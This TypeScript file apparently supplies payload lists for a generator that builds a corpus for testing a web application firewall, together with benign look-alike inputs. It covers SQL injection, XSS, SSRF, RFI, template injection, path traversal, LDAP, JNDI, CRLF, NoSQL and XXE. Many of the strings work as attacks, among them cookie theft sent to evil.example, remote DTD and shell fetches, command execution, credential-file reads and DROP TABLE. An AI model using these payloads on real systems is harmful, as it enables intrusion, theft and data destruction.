/**
 * Payload families for scripts/gen-payload-corpus.ts, written from knowledge of the public collections
 * (PayloadsAllTheThings, SecLists fuzzing lists, OWASP cheat sheets): many distinct forms per category, not only
 * the textbook one. Each string is what the attacker wants the application to receive after transport decoding;
 * the generator adds encoders and placements. NoSQL and XXE payloads are structures (objects, documents).
 */

export const SQLI: readonly string[] = [
  "' OR '1'='1", "' OR 1=1-- -", '" OR ""="', "admin'--", "admin' #", "admin'/*", "' or 1=1 limit 1 -- -+",
  "') or ('1'='1", "')) or (('x'='x", "1' ORDER BY 3--+", '1 UNION ALL SELECT NULL,NULL,NULL--',
  "-1' UNION SELECT 1,@@version,3-- -", "' UNION SELECT username, password FROM users--",
  '1 AND 1=2 UNION SELECT table_name,2 FROM information_schema.tables', "1' AND SLEEP(5)#",
  '1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)', "'; WAITFOR DELAY '0:0:5'--", '1; SELECT pg_sleep(5)--',
  "' AND 1=CONVERT(int,(SELECT @@version))--", "' AND extractvalue(1,concat(0x7e,(select user())))-- ",
  "' AND updatexml(null,concat(0x0a,version()),null)-- -",
  "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
  "' || (SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END)--", '1 OR BENCHMARK(5000000,MD5(1))',
  "'; DROP TABLE users; --", "'; EXEC xp_cmdshell('dir')--", "' UNION SELECT LOAD_FILE('/etc/passwd')--",
  "' INTO OUTFILE '/var/www/html/s.php'--", '1 AND 1=1', '1 AND 1=2', "1' AND '1'='1", '1 OR 1=1', '1) OR (1=1',
  "' OR 'x'='x", "' or ''='", "1'||'", "%' AND 1=0 UNION SELECT 1,2--", "' GROUP BY id HAVING 1=1 --",
  '1 AND (SELECT COUNT(*) FROM sysobjects)>0', "1' AND (SELECT 1 FROM dual WHERE 1=1)='1", "' UNION SELECT NULL FROM DUAL--",
  "' AND ROWNUM=1--", "1' and substr(user,1,1)='S", "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/",
  'IF(SUBSTR(@@version,1,1)<5,BENCHMARK(2000000,SHA1(0xDE7EC71F1)),SLEEP(1))', "' oR 1 LiKe 1--", "'-'", "' '", "'&'",
  "'^'", "' or \"a\"=\"a", '" or 1=1--', 'or true--', 'admin") or ("1"="1',
  "1 AND 5650=CAST((CHR(113)||CHR(106))||(SELECT (CASE WHEN (5650=5650) THEN 1 ELSE 0 END))::text AS NUMERIC)",
  '1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))', "' AND MAKE_SET(1=1,1)--",
  '1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,VERSION())),1)', "1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user())),1)-- ",
  "'; SHUTDOWN --", '1 UNION SELECT 1, sqlite_version()--', "' UNION SELECT sql FROM sqlite_master--",
  "' UNION ALL SELECT 'a',CHR(65)||CHR(66) FROM dual--", "';copy (select '') to program 'id'--",
  "DECLARE @q VARCHAR(99);SET @q='\\\\x.example\\a'; EXEC master.dbo.xp_dirtree @q;--",
  "' AND 1=utl_inaddr.get_host_address((select banner from v$version where rownum=1))--",
  "1%' AND 1=1 AND '%'='", '1 ORDER BY 1,2,3,4,5--', '1 AND ELT(1=1,SLEEP(3))', "1' AND 1=(SELECT 1 FROM pg_sleep(5))--",
  "' UNION SELECT 1,group_concat(column_name) FROM information_schema.columns WHERE table_name='users'--",
  "1' AND (SELECT SUBSTRING(name,1,1) FROM master..sysdatabases)>'a", "x' AND email IS NULL; --",
  "1;DECLARE @x CHAR(9);SET @x=0x303a303a35;WAITFOR DELAY @x--", "' AND 1 IN (SELECT @@version)--",
  '1 OR 2>1', "1' XOR 1=1 XOR '1", "' || 'a'='a", "1' AND 1=1 UNION ALL SELECT 1,NULL,'<x>',table_name FROM information_schema.tables WHERE 2>1--",
  "admin' AND '1'='1' /*", '1)) OR 1=1#', "' OR EXISTS(SELECT * FROM users WHERE username='admin')--",
  "1'/**/OR/**/1=1#", "1' OR '1'='1'/*", "' OR 1 -- -",
  "1' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055", '1 AnD 1=1', "' oR '1",
  "') OR 1=1 LIMIT 1;--", "') UNION SELECT password FROM users WHERE username='admin'--", '1 UNI/**/ON SEL/**/ECT 1,2,3',
  "1'+(SELECT 1 FROM (SELECT SLEEP(5))A)+'", "' UNION SELECT @@datadir--", '1 AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64',
  "' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--", "admin' or 1=1 or ''='", "' or 'a'='a' --",
  "1' and '1'='2' union select 1,2 from dual where '1'='1", ";EXEC('SEL'+'ECT 1')", '1;DROP TABLE users',
  "' ; DELETE FROM orders WHERE '1'='1", "1' || pg_sleep(10)--", "' AND 'a'=(SELECT 'a' FROM pg_user LIMIT 1)--",
  '0x50 OR 1=1', "1' WAITFOR DELAY '00:00:10'--", '`) OR 1=1 -- ',
  '" OR "1"="1" --', '1 or sleep(5)#', '" or sleep(5)="',
  "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#", '-1 UNION SELECT 1,2,LOAD_FILE(0x2f6574632f706173737764)',
];

export const XSS: readonly string[] = [
  '<script>alert(1)</script>', '<ScRiPt>alert(document.domain)</sCrIpT>', '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>', '<img src=x onerror="alert`1`">', '<svg onload=alert(1)>', '<svg/onload=alert(1)>',
  '<body onload=alert(1)>', '<iframe src="javascript:alert(1)">', '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">click</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>', '<video><source onerror="alert(1)">', '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<embed src="javascript:alert(1)">', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',
  '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
  '</textarea><script>alert(1)</script>', '</title><svg onload=alert(1)>', 'javascript:alert(document.cookie)',
  'JaVaScRiPt:alert(1)', 'javascript://%0aalert(1)', 'data:text/html,<script>alert(1)</script>',
  '<div style="background:url(javascript:alert(1))">', '<div style="width:expression(alert(1))">',
  "<style>@import 'http://evil.example/x.css';</style>", '<link rel=import href=//evil.example>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="//evil.example/">',
  '<form><button formaction=javascript:alert(1)>x</button></form>', '<isindex type=image src=1 onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>", "<img src=x:x onerror=window['al'+'ert'](1)>",
  '<x contenteditable onblur=alert(1)>lose focus', '<body onpageshow=alert(1)>', '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>', "<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>",
  "{{constructor.constructor('alert(1)')()}}", '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1);//<</script>',
  '<img """><script>alert(1)</script>">', '<IMG SRC=`javascript:alert("x")`>', "';alert(String.fromCharCode(88,83,83))//",
  '"-alert(1)-"', '\\";alert(1);//', '</script><script>alert(1)</script>', '<svg><script>alert&#40;1&#41;</script>',
  '<a href="&#106;avascript:alert(1)">', '<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>',
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
  '<dialog open onclose=alert(1)>', '<img src onerror=alert(1)>', '<svg><set attributeName=onmouseover to=alert(1)>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>', '<style onload=alert(1)>', '<img src=x onerror=prompt(1)>',
  '<svg onload=confirm`1`>', '<a href=javas&#99;ript:alert(1)>x</a>', '<iframe/src="data:text/html,<svg onload=alert(1)>">',
  '<object data=javascript:alert(1)>', '<x onclick=alert(1)>click me', '<img src=x onerror=location=`javascript:alert(1)`>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>', '<script>document.location="//evil.example/?"+document.cookie</script>',
  '<svg/onload=alert`1`>', '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>', '<iframe onload=alert(1)>',
  '<svg><script xlink:href=data:,alert(1)></script>', '<a href="javascript&colon;alert(1)">x</a>', "<img src=\"x\" onerror=\"top['al'+'ert'](1)\">",
  '"><svg onload=alert(1)//', '"autofocus onfocus=alert(1)//', '<body/onload=alert(1)>',
  "<script>eval(atob('YWxlcnQoMSk='))</script>", '<img src=x oNeRrOr=alert(1)>', "<svg onload=setTimeout('alert(1)')>",
  "<img src=x onerror=import('//evil.example/x.js')>", "<script>window.location='http://evil.example/?c='+document.cookie</script>", '<div onpointerover=alert(1)>x</div>',
  '<video src=x onloadstart=alert(1)>', '<input type=image src=x onerror=alert(1)>', '<object type="text/x-scriptlet" data="http://evil.example/x.sct"></object>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>', "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", "<script>self['ale'+'rt'](1)</script>",
  '<img src=x onerror=window.onerror=alert;throw 1>', '<a id=x tabindex=1 onfocusin=alert(1)></a>', '<svg><animatetransform onbegin=alert(1)>',
  "'-alert(1)-'", '</script><img src=x onerror=alert(1)>', '<img src=x onerror=alert(document.domain)//',
  '<ScRipT>prompt(1)</ScRipT>', '<iframe src="http://evil.example/phish" style="position:fixed;top:0;left:0;width:100%;height:100%">',
];

export const SSRF: readonly string[] = [
  'http://127.0.0.1/admin', 'http://localhost:8080/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://metadata.google.internal/computeMetadata/v1/', 'http://[::1]/', 'http://[0:0:0:0:0:ffff:127.0.0.1]/',
  'http://2130706433/', 'http://0x7f000001/', 'http://017700000001/', 'http://127.1/', 'http://0/', 'http://0.0.0.0:22/',
  'http://10.0.0.1/', 'http://192.168.1.1/', 'http://172.16.0.5:8500/v1/agent/self', 'file:///etc/passwd',
  'gopher://127.0.0.1:6379/_FLUSHALL', 'dict://127.0.0.1:11211/stats', 'http://localtest.me/', 'http://127.0.0.1.nip.io/',
  'http://user@127.0.0.1/', 'http://127.0.0.1#@evil.example/', 'http://[::ffff:a9fe:a9fe]/', 'http://instance-data/latest/',
  'http://100.100.100.200/latest/meta-data/', 'http://169.254.169.254/metadata/instance?api-version=2021-02-01',
  'http://0177.0.0.1/', 'http://0x7f.0x0.0x0.0x1/', 'ldap://127.0.0.1:389/', 'tftp://evil.example:12346/x',
  'jar:http://127.0.0.1!/', 'netdoc:///etc/passwd', 'http://①②⑦.⓪.⓪.①/', 'http://127。0。0。1/', 'http://[fd00:ec2::254]/latest/meta-data/',
  'http://kubernetes.default.svc/api/v1/namespaces', 'http://169.254.170.2/v2/credentials', 'https://127.0.0.1:6443/',
  'http://[0:0:0:0:0:0:0:1]:80/', 'http://2852039166/', 'http://0xa9fea9fe/', 'gopher://localhost:25/_HELO%20x',
  'http://localhost.localdomain/', 'http://metadata/computeMetadata/v1/instance/', 'http://127.0.0.1:2375/containers/json',
  'http://0x7f.1/', 'http://127.000.000.001/', 'http://[::]:80/',
  'http://0251.0376.0251.0376/', 'http://169.254.169.254.nip.io/', 'https://metadata.google.internal/computeMetadata/v1beta1/',
  'http://localhost%00.evil.example/', 'http://127.0.0.1:6379/', 'http://spoofed.burpcollaborator.net',
  'gopher://127.0.0.1:3306/_', 'http://[::ffff:127.0.0.1]/', 'http://%31%32%37%2e%30%2e%30%2e%31/',
  'http://127.127.127.127/', 'http://0177.1/', 'http://customer1.app.localhost/',
];

export const RFI: readonly string[] = [
  'http://evil.example/shell.txt?', 'http://203.0.113.7/x.php', '\\\\10.0.0.5\\share\\x.php', 'ftp://evil.example/x.txt',
  'https://198.51.100.9/c99.txt?', 'http://evil.example/inc.php%00', '//203.0.113.7/shell.txt', 'http://evil.example/r57.txt??',
];

export const SSTI: readonly string[] = [
  '{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', "{{7*'7'}}", '${{7*7}}', '{{config.items()}}',
  '{{self.__init__.__globals__.__builtins__}}', "{{''.__class__.__mro__[1].__subclasses__()}}",
  "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
  "{{cycler.__init__.__globals__.os.popen('id').read()}}", '{{lipsum.__globals__["os"].popen("id").read()}}',
  "${T(java.lang.Runtime).getRuntime().exec('id')}", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))', '${"freemarker.template.utility.Execute"?new()("id")}',
  '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}', "{{['id']|filter('system')}}",
  '<%= system("id") %>', '<%= `id` %>', '*{7*7}', '@(7*7)', '[[${7*7}]]', '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x',
  '{php}echo `id`;{/php}', "{system('id')}", "#{''.getClass().forName('java.lang.Runtime')}",
  "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", '{{dump(app)}}',
  "{{app.request.server.all|join(',')}}", "${{<%[%'\"}}%\\.", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
  "${@java.lang.Runtime@getRuntime().exec('id')}", "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", '<#if 7*7==49>x</#if>',
  '{{4*4}}[[5*5]]', "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}", '{{ url_for.__globals__.os.environ }}',
  "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
  '${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve("/etc/passwd")}',
  "{{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}", '{{config}}', '{{self}}',
  "${7*'7'}", '{{"".__class__}}', "<%= File.open('/etc/passwd').read %>",
  '#{7*7}', '${{7*7}}', '{{7*7}}${7*7}<%=7*7%>',
  '{% debug %}', '{{ request.environ }}', "${__import__('os').popen('id').read()}",
  '[#assign x="freemarker.template.utility.Execute"?new()]${x("id")}', '{{#each this}}{{@key}}{{/each}}', "${'a'.getClass().forName('java.lang.Runtime')}",
  "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
];

export const TRAVERSAL: readonly string[] = [
  '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '....//....//....//etc/passwd', '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%252f..%252fetc%252fpasswd', '..%c0%af..%c0%afetc%c0%afpasswd', '/etc/passwd', '/etc/shadow',
  '/proc/self/environ', '/proc/self/cmdline', 'C:\\Windows\\System32\\drivers\\etc\\hosts', 'c:/boot.ini',
  '../../../../../../etc/passwd%00.jpg', '..;/..;/WEB-INF/web.xml', '/WEB-INF/web.xml', '../../../../var/log/apache2/access.log',
  'php://filter/convert.base64-encode/resource=index.php', 'php://input', 'file:///etc/passwd', 'zip://shell.jpg%23payload.php',
  'phar://uploads/x.phar/test', 'expect://id', '../.env', '../../.git/config', '..%5c..%5cwindows%5cwin.ini', '..\\/..\\/etc/passwd',
  '%2e%2e/%2e%2e/etc/passwd', '..%u2216..%u2216windows%u2216win.ini', '/proc/self/fd/0', '~/.ssh/id_rsa', '/root/.bash_history',
  'C:\\inetpub\\wwwroot\\web.config', '/./././././etc/passwd', '//etc//passwd', '../../../../../etc/hosts', '.../...//.../...//etc/passwd',
  '..%00/..%00/etc/passwd', 'php://filter/read=string.rot13/resource=config.php', '/var/www/html/wp-config.php', '....\\\\....\\\\windows\\\\win.ini',
  '../../../../../../../../../../boot.ini', '/home/user/.aws/credentials', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==',
  '..%2F..%2F..%2F..%2Fetc%2Fpasswd', '..././..././..././etc/passwd', '/..\\../..\\../etc/passwd',
  '%252e%252e%252fetc%252fpasswd', '....\\/....\\/etc/passwd', '..%c1%9c..%c1%9cboot.ini',
  '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd', '\\\\..\\\\..\\\\..\\\\windows\\\\system.ini',
  '/var/log/nginx/access.log', '/proc/version', '/etc/group',
  'WEB-INF/classes/application.properties', '....//....//....//....//etc//passwd',
];

export const LDAP: readonly string[] = [
  '*)(uid=*))(|(uid=*', '*)(&', 'admin)(&)', '*)(|(objectClass=*)', 'admin*)((|userPassword=*)', ')(cn=*))(|(cn=*', '*))%00',
  '(|(uid=*)(cn=*))', 'x*)(|(password=*)', 'admin)(!(&(1=0', '*)(userPassword=*)', '))(|(objectclass=*)', '*)(mail=*',
  'admin)(|(description=*', '*)(|(cn=admin)(cn=*))', '(&(objectClass=user)(|(cn=*)))',
  '*)(objectClass=*', 'admin)(|(password=*)', '*)(|(&',
  'pwd)(|(pwd=*', '*)(uid=*',
];

export const JNDI: readonly string[] = [
  '${jndi:ldap://evil.example/a}', '${jndi:rmi://203.0.113.4:1099/x}', '${jndi:dns://x.oast.example}', '${${lower:j}ndi:${lower:l}dap://x.example/}',
  '${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/}', '${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/}',
  '${jndi:${lower:l}${lower:d}a${lower:p}://x.example}', '${${upper:j}ndi:ldap://x.example}', '${j${k8s:k5:-ND}i:ldap://x.example}',
  '${jndi:ldaps://x.example/a}', '${jndi:iiop://x.example/a}', '${jndi:nis://x.example/a}', '${jndi:corba://x.example/a}',
  "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example}", '${env:AWS_SECRET_ACCESS_KEY}', '${sys:java.version}',
  '${jndi:ldap://${env:USER}.x.oast.example/a}', '${${::-j}ndi:rmi://x.example/a}', '${j${main:\\k5:-Nd}i:ldap://x.example}',
  '${jndi:http://x.example/a}', '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}',
  '${jndi:ldap://127.0.0.1:1389/Basic/Command/Base64/aWQ=}', '${${lower:jndi}:${lower:rmi}://x.example/a}', '${${::-j}ndi:${::-l}${::-d}${::-a}${::-p}://x.example/a}',
  '$%7Bjndi:ldap://x.example/a%7D', '${jndi:ldap://x.example/a}${jndi:dns://x.example}', '${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}',
  '${jndi:ldap://x.example:1389/a?${env:PATH}}',
];

export const CRLF: readonly string[] = [
  '\r\nSet-Cookie: sessionid=evil', '\r\nLocation: http://evil.example/', '\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>x</html>',
  '\r\n\r\n<script>alert(1)</script>', '\nX-Injected: 1', '\u560d\u560aSet-Cookie: x=1', 'en\r\nAccess-Control-Allow-Origin: *',
  'x\r\nBcc: victim@example.com', '/\r\nX-Forwarded-Host: evil.example', 'a\rRefresh: 0; url=http://evil.example/',
  'test%0d%0aSet-Cookie:%20admin=true', '%E5%98%8A%E5%98%8DLocation:%20http://evil.example', 'x\r\nTransfer-Encoding: chunked',
  '%0d%0aLocation:%20http://evil.example', '%0aSet-Cookie:crlf=injection', '\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>',
  '%23%0dSet-Cookie:x=1', '%3f%0d%0aLocation:%0d%0aContent-Type:text/html%0d%0aX-XSS-Protection%3a0%0d%0a%0d%0a%3Cscript%3Ealert%28document.domain%29%3C/script%3E', '/%0D%0ASet-Cookie:mycookie=myvalue',
];

/** NoSQL: objects sent as JSON or as a bracketed query string, and strings for a $where / JS string context. */
export const NOSQL_OBJECTS: readonly Record<string, unknown>[] = [
  { username: { $ne: null }, password: { $ne: null } }, { username: 'admin', password: { $gt: '' } },
  { username: { $regex: '^adm' }, password: { $exists: true } }, { $where: 'this.password.length > 0' },
  { username: { $in: ['admin', 'root'] }, password: { $ne: 'x' } }, { password: { $nin: [''] } }, { $or: [{ role: 'admin' }, { a: 1 }] },
  { username: { $eq: 'admin' }, password: { $regex: '.*' } }, { age: { $lt: 100000 } }, { $expr: { $gt: ['$balance', 0] } },
  { name: { $not: { $size: 0 } } }, { password: { $type: 2 } }, { $where: 'sleep(5000) || true' },
  { tags: { $elemMatch: { $gt: '' } } }, { $and: [{ user: { $ne: 1 } }] }, { email: { $regex: '.*', $options: 'i' } },
  { token: { $exists: false } }, { $comment: 'x', user: { $gte: '' } },
];

export const NOSQL_STRINGS: readonly string[] = [
  "' || 1==1//", "'; return true; var x='", "'; sleep(5000); '", '"; while(true){}; "', "true, $where: '1 == 1'",
  "', $or: [ {}, { 'a':'a", '{"$gt": ""}', '{"$ne": null}', 'db.users.find()', "' && this.password.match(/^a/)//",
  "admin' || 'a'=='a", '[$ne]=1', "'; db.dropDatabase(); '", "1; return this.isAdmin == true", '{"$where": "sleep(100)"}',
  '{"$gt": ""}', "true, $where: '1 == 1'", "'; return '' == '",
  '{"$regex": "^a"}', '[$regex]=.*', "'||'a'=='a",
];

/** XXE: whole documents. */
export const XXE: readonly string[] = [
  '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
  '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]><foo>1</foo>',
  '<!DOCTYPE data SYSTEM "http://evil.example/x.dtd"><data>1</data>',
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
  '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
  '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><foo>&xxe;</foo>',
  '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]><foo>&xxe;</foo>',
  '<!DOCTYPE x PUBLIC "-//B/A/EN" "http://evil.example/dtd"><x>1</x>',
  '<?xml version="1.0" standalone="yes"?><!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&xxe;</text></svg>',
  '<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]><foo>&xxe;</foo>',
  '<?xml version="1.0"?><!DOCTYPE root [<!ENTITY % remote SYSTEM "http://169.254.169.254/"> %remote;]><root/>',
  '<!DOCTYPE foo [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY x "y">\'>%local_dtd;]><foo/>',
  '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "jar:http://evil.example/x.zip!/x.dtd">%a;]><r/>',
  '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE soap [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><q>&xxe;</q></soap:Body></soap:Envelope>',
];

/** Realistic benign values by kind: what real clients put in the same places. */
export const BENIGN: Readonly<Record<string, readonly string[]>> = {
  name: [
    "O'Brien", "D'Angelo", "Mary-Jane O'Neil", "Jean-Luc d'Arcy", "N'Golo Kanté", "Ngũgĩ wa Thiong'o", 'José Ñúñez', 'Łukasz Żółć',
    '王小明', 'محمد الأحمد', 'Ольга Петрова', "Sinéad O'Connor", "Dell'Orto & Sons", 'Smith, John (Jr.)', "L'Oréal Paris", "Mc'Donald",
  ],
  prose: [
    'Please select the items from the drop-down and update the order', "I'd like to union our teams and delete the old accounts",
    "Where can I find the 'select all' option?", 'The script runs every night; nothing fails.', '1 or 2 bedrooms, up to $2,000',
    'Tom & Jerry', '<3 thanks!', "Rock 'n' roll", 'He is 5\' 11" tall', 'between 10 and 20 people', 'Order #1234 - where is it?',
    "sleep mode doesn't work after the update", 'My password reset link expired (again)', "Can't log in: 'invalid token' error",
    "C'est l'été, n'est-ce pas ?", 'Use code SAVE50 for 50% off', 'if a < b and c > d then swap them', 'Drop me a line when the table is ready',
    'Select your size, then insert the card and execute the payment', 'We sleep 8 hours and wake at 6:30', "Don't forget: 'order by' date, not name",
    'Is 1=1 always true? Asking for my maths homework', 'From: the sales team; To: everyone', 'the "where" clause of my life',
    'null and void', 'Having fun? Join us at 5pm', 'Q&A session: 10-11am', 'Price: 12.50 EUR (incl. 20% VAT)',
  ],
  markdown: [
    '**Bold** and _italic_ with a [link](https://github.com/nodejs/node) and `inline code`', '# Release notes\n- fixed login\n- faster search',
    '> quoted reply\n\nThanks!', '1. select a plan\n2. update billing\n3. drop the old card', '![logo](https://cdn.example.com/logo.png "Logo")',
    '| col | value |\n| --- | --- |\n| a | 1 |', '~~old~~ new price', '- [x] done\n- [ ] todo: union of both lists',
  ],
  'rich-text': [
    '<p>Hello <strong>world</strong></p>', '<a href="https://example.com/docs">docs</a>', '<ul><li>one</li><li>two</li></ul>',
    '<p>Regards,<br>Anna</p>', '<em>note:</em> prices change', '<blockquote>Great service!</blockquote>', '<h2>FAQ</h2><p>Read below.</p>',
  ],
  url: [
    'https://www.google.com/search?q=rampart+gateway', 'https://en.wikipedia.org/wiki/Web_application_firewall', 'https://github.com/nodejs/node/issues/123',
    'https://cdn.jsdelivr.net/npm/lodash@4.17.21/lodash.min.js', 'https://example.com/path/to/file.pdf?download=1#page=2', 'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s',
    'https://shop.example.co.uk/cart?item=12&qty=2', 'http://www.bbc.co.uk/news', 'https://maps.google.com/?q=51.5074,-0.1278', 'mailto:support@example.com',
    'https://api.stripe.com/v1/charges', 'https://docs.python.org/3/library/os.html', '/account/settings?tab=security', 'https://hooks.slack.com/services/T000/B000/XXXX',
  ],
  email: ['first.last+tag@example.co.uk', "o'reilly@example.com", 'user_name@sub.example.org', 'anna.müller@example.de', '"john doe"@example.com', 'x@y.io'],
  token: [
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
    'sk_test_4eC39HqLyjWDarjtT1zdp7dc', 'ghp_16C7e42F292c6912E7710c838347Ae178B4a', '550e8400-e29b-41d4-a716-446655440000', 'AKIAIOSFODNN7EXAMPLE',
    'dGhpcyBpcyBhbiBvcGFxdWUgY3Vyc29y', 'MTIzNDU2Nzg5MDpwYWdlPTI=', 'a1b2c3d4e5f60718293a4b5c6d7e8f90', 'v1:7f3a9c:1700000000',
  ],
  'json-string': [
    '{"theme":"dark","lang":"en-GB"}', '[1,2,3]', '{"filters":{"status":["open","closed"],"q":"o\'brien"}}', '{"sort":"-created_at","limit":20}',
    '{"address":{"line1":"221B Baker St.","city":"London"}}', '{"query":"query { user(id: 1) { name } }"}', '{"$schema":"https://json-schema.org/draft/2020-12/schema"}',
  ],
  ticket: [
    'Hi team, after the last update the export to CSV drops the first row. Steps: 1) open report 2) click Export. Thanks, Anna',
    "Hello, I was charged twice for order 88231. Could you refund one of them? I've attached the receipt.",
    'The app crashes when I select a date before 1970 - is that expected?', 'Please delete my account and all data (GDPR art. 17).',
    'Our admin panel shows "403 forbidden" since this morning; nothing changed on our side.',
    'Can you add an option to union two playlists? Right now I drop duplicates by hand.',
    'Where is the "execute" button? The docs say select -> run, but I only see "update".',
  ],
  multilingual: [
    'Привет, как дела?', 'こんにちは世界', 'مرحبا بالعالم', 'Grüße aus München', '¿Dónde está la estación?', "Ça coûte 5 € — d'accord ?",
    '你好，请问订单什么时候发货？', 'Γειά σου Κόσμε', 'שלום עולם', 'नमस्ते दुनिया', 'Dziękuję za szybką odpowiedź!', "Quest'anno l'offerta è migliore",
    '안녕하세요, 주문 취소 부탁드립니다', 'Tôi muốn đổi địa chỉ giao hàng', 'Merhaba, siparişim nerede?',
  ],
  misc: [
    '+1 (555) 010-9999', '221B Baker St., London NW1 6XE', '2024-03-05T10:00:00Z', '^1.2.3 || >=2.0.0 <3', 'report (final) v2.docx',
